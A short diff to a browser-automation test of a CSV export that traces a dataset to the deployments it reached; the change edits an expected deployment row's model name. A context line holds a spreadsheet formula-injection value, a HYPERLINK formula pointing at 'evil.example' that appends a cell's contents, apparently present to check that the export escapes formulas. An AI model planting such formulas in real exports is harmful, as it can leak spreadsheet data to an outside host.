@@ -38,7 +38,7 @@ test("from a dataset down to the endpoints that it reached, with counts and as a
     `RUN,"'=HYPERLINK(""https://evil.example/""&A1)",1`,
   );
   expect(lines.find((line) => line.includes("prod-us/scorer"))).toContain(
-    "DEPLOYMENT,prod-us/scorer,3,,prod-us,fraud v1,DEGRADED,RUNNING,true,false,",
+    "DEPLOYMENT,prod-us/scorer,3,,prod-us,v1,DEGRADED,RUNNING,true,false,",
   );
   await page.context().close();
 });
